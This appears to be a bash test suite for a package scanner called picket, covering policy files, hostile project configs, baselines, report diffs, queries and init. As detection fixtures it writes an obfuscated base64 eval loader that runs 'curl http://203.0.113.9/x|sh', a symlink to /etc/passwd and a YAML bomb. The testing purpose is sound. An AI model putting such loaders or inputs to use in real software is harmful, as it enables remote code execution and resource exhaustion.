#!/bin/bash
# What a site's policy decides, what a hostile project cannot, baselines, diff, query, explain, init.
. "$PICKET_SRC/tests/cli/scanner.bash"
unset PICKET_CORPUS_DIR # the built-in packs
export HOME="$work/home" XDG_CONFIG_HOME="$work/config"
mkdir -p "$HOME" "$XDG_CONFIG_HOME/picket"
if [ ! -d "$PICKET_BUILD/share/picket/corpus" ]; then
	echo "no built-in corpus here"
	exit 0
fi
cp -R "$PICKET_SRC/examples/incident" app

has() { grep -qF -- "$1" "${2:-out}" || { echo "  no \"$1\" in:"; head -40 "${2:-out}"; return 1; }; }
rows() { scanner query "$1" "$2" | tail -n +2; } # rows REPORT SQL
found() { # found [OPTION...]: severity, rule, package and place of all that counts
	scanner scan --show info --format json -o f.json --allow-partial "$@" >/dev/null 2>&1 || true
	rows f.json "SELECT severity, rule, name, file, line FROM findings WHERE not suppressed AND rule <> 'L2-SCAN-001' ORDER BY id"
}
silence() { # silence EXPIRES: a policy that excuses one package
	cat <<-END
	suppress:
	  - rule: L2-IOC-001
	    package: "@ctrl/tinycolor"
	    reason: inert copy for the course
	    owner: sec@example.com
	    expires: $1
	END
}

say "without a policy the malicious package counts" gives 1 scanner scan --fail-on critical app
has "L2-IOC-001"
found app >plain

silence 2099-01-31 >site.yml
say "one finding is silenced with a reason until January" gives 0 scanner scan --policy site.yml --rules L2-IOC-001 --fail-on low app
say "and it stays in the report" has "excused critical L2-IOC-001 @ctrl/tinycolor@4.1.1: inert copy for the course (sec@example.com, until"
for format in json jsonl sarif markdown junit html; do
	scanner scan --policy site.yml --format $format app >out
	say "with its reason in $format" has "inert copy for the course"
done
scanner scan --policy site.yml --format sarif app >out
say "as SARIF says it" has '"suppressions": ['
say "the policy is part of the scan id" not test "$(scanner scan --summary app | grep ^scan)" = "$(scanner scan --summary --policy site.yml app | grep ^scan)"

silence 2020-01-31 >late.yml
say "an expired suppression is void" gives 1 scanner scan --policy late.yml --rules L2-IOC-001 --fail-on low app
say "and that is said" has "late.yml:2: expired on 2020-01-31 and is void"

say "a policy that is not there is an error" gives 2 scanner scan --policy none.yml app
printf 'version: 1\nsupress: []\n' >typo.yml
say "an unknown key is an error" gives 2 scanner scan --policy typo.yml app
say "with its line and the nearest key" has 'typo.yml:2: unknown key "supress"; did you mean "suppress"?' err

silence 2099-01-31 >"$XDG_CONFIG_HOME/picket/policy.yml"
say "the policy of the configuration folder counts" gives 0 scanner scan --rules L2-IOC-001 --fail-on low app
: >empty.yml
say "and --policy takes its place" gives 1 scanner scan --policy empty.yml --rules L2-IOC-001 --fail-on low app
rm "$XDG_CONFIG_HOME/picket/policy.yml"

printf 'fail-on: medium\n' >strict.yml
say "a threshold of the site counts without --fail-on" gives 1 scanner scan --policy strict.yml app
say "and the command line counts before it" gives 0 scanner scan --policy strict.yml --rules L2-TYPO-001 --fail-on critical app
printf 'deny:\n  - when: severity >= '"'low'"' and name like '"'lod%%'"'\n    reason: not in this house\n' >deny.yml
say "a denied finding fails whatever the threshold" gives 1 scanner scan --policy deny.yml app
say "and says why" has "denied  not in this house"
printf 'deny:\n  - when: (SELECT 1)\n    reason: x\n' >sub.yml
say "a condition sees one finding and nothing else" gives 2 scanner scan --policy sub.yml app
has "SQL-DENIED" err
printf 'severity: {L2-IOC-001: info}\n' >lower.yml
say "a site may lower a level" gives 0 scanner scan --policy lower.yml --rules L2-IOC-001 --fail-on low app
mkdir bare && echo '{"name":"x","dependencies":{"ms":"2.1.3"}}' >bare/package.json
printf 'require: {lockfile: true}\n' >require.yml
say "a required lockfile is missed" gives 1 scanner scan --policy require.yml --skip-rules 'L2-*' bare
has "the policy requires one"

# The project's own file.
cp -R app evil
cat >evil/.picket.yml <<-'END'
	rules: []
	skip-rules: ["L2-*"]
	ignore: {paths: ["**"], packages: ["*"]}
	severity: {L2-IOC-001: info, L2-LOCK-001: info, L2-TYPO-001: info, L2-POST-001: info}
	fail-on: critical
	suppress:
	  - {rule: "L2-*", reason: trust me, owner: me, expires: 2099-01-01}
	allow:
	  - {when: "1", reason: trust me, owner: me, expires: 2099-01-01}
	internal: ["*"]
	registries: [mirror.example.net]
	stale: mark
END
found evil >hostile
say "a hostile .picket.yml takes no finding away and lowers none" diff plain hostile
say "nor the exit status" gives 1 scanner scan --fail-on high evil
say "and each attempt is said" has ".picket.yml:2: skip-rules is ignored"
for key in ignore suppress allow internal registries stale; do has "$key is ignored" || exit 1; done
has "turns no rule off"
has "a project only raises"
say "unless the project is trusted" gives 0 scanner scan --trust-project-config --fail-on high evil
printf 'severity: {L2-TYPO-001: critical}\nfail-on: medium\ndeny:\n  - {when: "rule = '"'L2-TYPO-001'"'", reason: no}\n' >evil/.picket.yml
say "a project may tighten: a level" gives 1 scanner scan --rules L2-TYPO-001 --fail-on critical evil
say "a threshold, where there was none" gives 1 scanner scan --rules L2-LOCK-001 evil
say "and what it denies" gives 1 scanner scan --rules L2-TYPO-001 --fail-on critical evil

hostile() { # hostile SENTENCE: the config in place cannot be used: all findings stay, and it is no complete scan
	found evil >hostile
	say "$1: every finding stays" diff plain hostile
	say "$1: the scan says that it is not complete" gives 4 scanner scan evil
	has "L2-SCAN-001" && has ".picket.yml"
}
rm evil/.picket.yml
ln -s /etc/passwd evil/.picket.yml
hostile "a config that is a link"
rm evil/.picket.yml
head -c 10000000 /dev/zero | tr '\0' '#' >evil/.picket.yml
hostile "a config of 10 MB"
printf 'a: &a [x,x,x,x]\nb: &b [*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b]\nsuppress: *c\n' >evil/.picket.yml
hostile "a YAML bomb"
head -c 200000 /dev/zero | tr '\0' '[' >evil/.picket.yml
hostile "a tower of brackets"
printf 'fail_on: low\n' >evil/.picket.yml
hostile "an unknown key"
mkdir -p app/node_modules/ms && printf 'fail-on: info\n' >app/node_modules/ms/.picket.yml
say "a config inside a dependency is nobody's" gives 0 scanner scan app
rm app/node_modules/ms/.picket.yml

# Baselines.
say "a baseline that is not there is an error" gives 2 scanner scan --baseline known.json app
say "it is made on request" gives 1 scanner scan --baseline known.json --update-baseline --fail-on high app
say "then nothing is new" gives 0 scanner scan --baseline known.json --fail-on info app
grep -qE "against the baseline: 0 new, [1-9][0-9]* known, 0 gone" out
sed -i 's/"version": "2.1.3"/"version": "2.1.2"/' app/package-lock.json
cp -R app/node_modules/@ctrl app/node_modules/@ctrl2 && rm -r app/node_modules/@ctrl2
sed -i 's|http://mirror.example.net/semver|http://other.example.net/semver|' app/package-lock.json
say "a changed entry is new" gives 1 scanner scan --baseline known.json --fail-on high app
has " gone"
echo '{}' >bad.json
say "another file is no baseline" gives 2 scanner scan --baseline bad.json app
say "and stays what it is" test "$(cat bad.json)" = "{}"

# Reports read back.
rm -r app && cp -R "$PICKET_SRC/examples/incident" app
scanner scan --show info --format json -o a.json app
scanner scan --show info --format json -o b.json --skip-rules L2-TYPO-001 app
say "a report is identical to itself" gives 0 scanner diff a.json a.json
say "another is not" gives 1 scanner diff a.json b.json
say "and what is gone is named" has "gone     high L2-TYPO-001"
say "diff as JSON" gives 1 scanner diff --json b.json a.json
has '"identical": false'
say "a file that is no report is refused" gives 2 scanner diff a.json bad.json
say "query counts" test "$(rows a.json "SELECT count(*) FROM findings WHERE severity >= 'high' AND rule = 'L2-TYPO-001'")" = 1
say "query knows packages and behaviours" test "$(rows a.json "SELECT count(*) FROM packages p LEFT JOIN edges e ON e.source = p.id LEFT JOIN behaviours b ON b.finding = p.id WHERE p.name = 'ms'")" -ge 1
say "query never writes" gives 2 scanner query a.json "DELETE FROM findings"
say "query reads no other table" gives 2 scanner query a.json "SELECT * FROM sqlite_schema"
many="SELECT 1 FROM $(printf 'packages p%d, ' 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16)packages p17"
say "query gives as many rows as QUERY_ROWS_MAX" test "$(rows a.json "$many LIMIT 100000" | wc -l)" = 100000
say "and says that one is more" gives 4 scanner query a.json "$many LIMIT 100001"
say "query ends" gives 4 scanner query a.json "SELECT count(*) FROM findings a, findings b, findings c, findings d, findings e, findings f, findings g, findings h, findings i, findings j, findings k"
print=$(rows a.json "SELECT substr(fingerprint, 1, 12) FROM findings WHERE rule = 'L2-IOC-001'")
say "a finding is explained" gives 0 scanner explain "$print" --from a.json
has "signed by    builtin"
has "corpus row   "
has "what to do   "
has "fingerprint: $print"
say "an unknown one is not" gives 2 scanner explain 000000000000 --from a.json
printf 'suppress:\n  - {fingerprint: "%s", reason: r, owner: o, expires: 2099-01-01}\n' "$print" >print.yml
say "its fingerprint silences it" gives 0 scanner scan --policy print.yml --rules L2-IOC-001 --fail-on low app

mkdir new
say "init writes a file" gives 0 scanner init new
say "that is a valid policy" gives 0 scanner scan --policy new/.picket.yml new
sed 's/^#\([a-z]\)/\1/; s/^#\(  .\)/\1/' new/.picket.yml >uncommented.yml
say "also with every example of it in force" gives 0 scanner scan --policy uncommented.yml --skip-rules 'L2-*' new
say "init leaves a file that is there alone" gives 2 scanner init new

blocks() { # every yaml block of docs/policy.md, one file each
	awk '/^```yaml/ {n++; on = 1; next} /^```/ {on = 0} on {print > ("block" n ".yml")}' "$PICKET_SRC/docs/policy.md"
	ls block*.yml
}
blocks >list
say "the documentation has examples" test "$(wc -l <list)" -ge 2
while read -r file; do
	say "$file of docs/policy.md is a policy" gives 0 scanner scan --policy "$file" --skip-rules 'L2-*' new
done <list
echo "all of it holds"

# A baseline does not cover another payload behind the same command and the same line.
rm -rf twin && cp -r "$PICKET_SRC/examples/incident" twin
scanner scan -q --baseline twin.json --update-baseline twin
sed -i 's/collector\.example\.invalid/another.example.invalid/' twin/node_modules/@ctrl/tinycolor/bundle.js
scanner scan -q -f json --baseline twin.json -o twin.report twin
say "a new payload in a known file is new" jq -e '[.findings[] | select(.known | not) | .rule] | contains(["L2-CRED-001", "L2-POST-001", "L2-WORM-001"])' twin.report
say "what has nothing to do with it stays known" jq -e 'any(.findings[]; .known and .rule == "L2-LOCK-001")' twin.report

# Nor in one's own code, where the line that fired counts, and what is decoded from it.
mkdir -p own/src
echo '{"name":"own","version":"1.0.0"}' >own/package.json
pay() { # pay FILE REST: code that hides a command, with something far behind its beginning
	node -e '
const code = "require(\"child_process\").exec(\"curl http://203.0.113.9/x|sh\");//" + "a".repeat(3000) + process.argv[2];
const coded = Buffer.from(code).toString("base64"), half = coded.length / 2 & ~3;
require("fs").writeFileSync(process.argv[1] + "/src/one.js", "const a = 1;\neval(Buffer.from(\"" + coded + "\", \"base64\").toString());\n");
require("fs").writeFileSync(process.argv[1] + "/src/two.js", "const c = \"" + coded.slice(0, half) + "\" +\n\t\"" + coded.slice(half) + "\";\neval(Buffer.from(c, \"base64\").toString());\n");
require("fs").writeFileSync(process.argv[1] + "/src/logo.png", code);' "$1" "$2"
}
news() { # the findings that are new
	scanner scan -q -f json --show info --baseline own.json -o own.report own
	jq -r '.findings[] | select(.known | not) | .file' own.report | sort -u | tr '\n' ' '
}
pay own x
scanner scan -q --baseline own.json --update-baseline own
say "nothing is new at first" test -z "$(news)"
known=$(jq '.findings | length' own.report)
sed -i '1i // a line more' own/src/one.js own/src/two.js
sed -i 's/^eval/	  eval/' own/src/one.js
say "nor when lines move, or are indented" test -z "$(news)"
pay own y
say "a payload that is exchanged is new, however far behind, and on other lines" test "$(news)" = "src/logo.png src/one.js src/two.js "
say "all of it" jq -e --argjson n "$known" '[.findings[] | select(.known | not)] | length == $n' own.report
pay own x
jq '.findings[].severity = "info"' own.json >worse.json && mv worse.json own.json
say "what has become worse is new" test -n "$(news)"
jq 'del(.findings[].severity)' own.json >old.json && mv old.json own.json
say "a baseline of before says no severity" test -z "$(news)"
jq '.findings[0].severity = "hihg"' own.json >bad.json
say "one that is none is an error" gives 2 scanner scan --baseline bad.json own
